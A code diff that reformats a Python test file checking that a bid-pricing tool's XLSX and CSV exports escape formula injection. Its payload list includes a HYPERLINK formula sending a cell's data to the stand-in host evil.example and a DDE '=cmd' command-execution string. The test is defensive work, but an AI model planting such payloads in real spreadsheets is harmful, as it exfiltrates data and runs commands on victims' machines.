@@ -19,18 +19,34 @@ from bidassist.reports.price_xlsx import write_price_xlsx
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?p="&Summary!B2, "click")',
-    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
 ]
 
 
 @pytest.fixture
 def report(tmp_path):
-    lines = [CostLine(code=f"={i}", description=p, quantity=Decimal(1), low=Decimal(90),
-                      likely=Decimal(100), high=Decimal(130), distribution="pert")
-             for i, p in enumerate(PAYLOADS)]
+    lines = [
+        CostLine(
+            code=f"={i}",
+            description=p,
+            quantity=Decimal(1),
+            low=Decimal(90),
+            likely=Decimal(100),
+            high=Decimal(130),
+            distribution="pert",
+        )
+        for i, p in enumerate(PAYLOADS)
+    ]
     risks = [{"name": p, "probability": 0.2, "impact": {"dist": "fixed", "value": 50}} for p in PAYLOADS[:3]]
-    bid = make_bid({"competitors": {"count": 3, "price": {"dist": "uniform", "low": 800, "high": 1400}},
-                    "risks": risks})
+    bid = make_bid(
+        {"competitors": {"count": 3, "price": {"dist": "uniform", "low": 800, "high": 1400}}, "risks": risks}
+    )
     result = price_bid(bid, CostModel(lines=lines), iterations=2000)
     out = tmp_path / "report.xlsx"
     write_price_xlsx(result, out)
@@ -59,4 +75,4 @@ def test_csv_fields_are_escaped():
     csv.writer(buf).writerow(csv_row([*PAYLOADS, "plain", 12, "1-2"]))
     fields = next(csv.reader(io.StringIO(buf.getvalue())))
     assert all(f.startswith("'") for f in fields[: len(PAYLOADS)])
-    assert fields[len(PAYLOADS):] == ["plain", "12", "1-2"]
+    assert fields[len(PAYLOADS) :] == ["plain", "12", "1-2"]
